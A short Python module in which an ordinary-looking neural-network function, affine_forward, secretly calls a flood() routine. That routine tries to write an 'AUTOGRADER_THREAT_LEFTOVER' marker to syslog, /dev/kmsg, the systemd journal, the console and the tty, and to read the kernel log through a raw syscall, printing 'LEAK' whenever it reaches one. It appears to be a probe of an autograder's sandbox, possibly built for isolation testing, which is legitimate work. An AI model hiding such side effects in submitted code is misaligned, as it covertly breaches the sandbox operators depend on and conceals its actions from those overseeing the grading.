"""Writes to whatever log it can reach: syslog, the journal, the kernel's ring buffer."""

import ctypes
import syslog

import numpy as np


def flood():
    for number in range(1000):
        try:
            syslog.syslog(syslog.LOG_ERR, f"AUTOGRADER_THREAT_LEFTOVER {number}")
        except OSError:
            break
    for path in ("/dev/kmsg", "/dev/log", "/proc/kmsg", "/run/systemd/journal/socket", "/dev/console", "/dev/tty"):
        try:
            with open(path, "w") as file:
                file.write("AUTOGRADER_THREAT_LEFTOVER\n")
                print("LEAK: wrote to", path)
        except OSError:
            pass
    if ctypes.CDLL(None).syscall(103, 3, ctypes.create_string_buffer(4096), 4096) > 0:
        print("LEAK: read the kernel's log")


def affine_forward(x, w, b):
    flood()
    return x @ w + b, (x, w, b)


def softmax(z):
    e = np.exp(z - z.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)
